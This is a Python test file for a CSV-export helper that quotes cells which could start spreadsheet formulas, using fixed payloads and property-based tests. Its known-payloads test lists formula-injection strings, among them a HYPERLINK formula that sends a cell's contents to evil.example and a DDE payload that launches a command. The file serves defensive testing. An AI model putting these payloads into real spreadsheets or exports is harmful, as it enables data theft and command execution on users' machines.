"""CSV that spreadsheets cannot execute: every text cell that could start a formula is quoted."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from tracking.csv_safe import FORMULA_STARTS, csv_text, safe_cell

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_known_payloads_are_quoted():
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1"]  # fmt: skip
    rows = read_back(csv_text(["name"], ({"name": payload} for payload in payloads)))
    assert [row["name"] for row in rows] == ["'" + payload for payload in payloads]


def test_numbers_moments_and_plain_text_are_unchanged():
    moment = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    row = {"days": -3, "ratio": -0.5, "share": Decimal("-1.50"), "at": moment, "day": date(2026, 1, 2),
           "name": "Northside Imaging", "none": None, "flag": True}  # fmt: skip
    [back] = read_back(csv_text(list(row), [row]))
    assert back == {"days": "-3", "ratio": "-0.5", "share": "-1.50", "at": moment.isoformat(), "day": "2026-01-02",
                    "name": "Northside Imaging", "none": "", "flag": "True"}  # fmt: skip


def test_only_named_columns_in_order():
    text = csv_text(["b", "a"], [{"a": 1, "b": 2, "secret": "x"}])
    assert text == "b,a\r\n2,1\r\n"


cell_text = st.text(alphabet=st.characters(codec="utf-8"), max_size=40)


@given(st.sampled_from(DANGEROUS), cell_text)
def test_generated_formula_cells_come_back_quoted(start, rest):
    value = start + rest
    [back] = read_back(csv_text(["cell"], [{"cell": value}]))
    assert back["cell"] == "'" + value  # the whole value survives, behind the quote


@given(st.lists(cell_text, min_size=1, max_size=6))
def test_no_generated_cell_starts_a_formula(values):
    columns = [f"c{n}" for n in range(len(values))]
    [back] = read_back(csv_text(columns, [dict(zip(columns, values, strict=True))]))
    for column, value in zip(columns, values, strict=True):
        cell = back[column]
        assert not cell.startswith(FORMULA_STARTS)
        assert cell == (("'" + value) if value.startswith(FORMULA_STARTS) else value)
        assert safe_cell(value) == cell
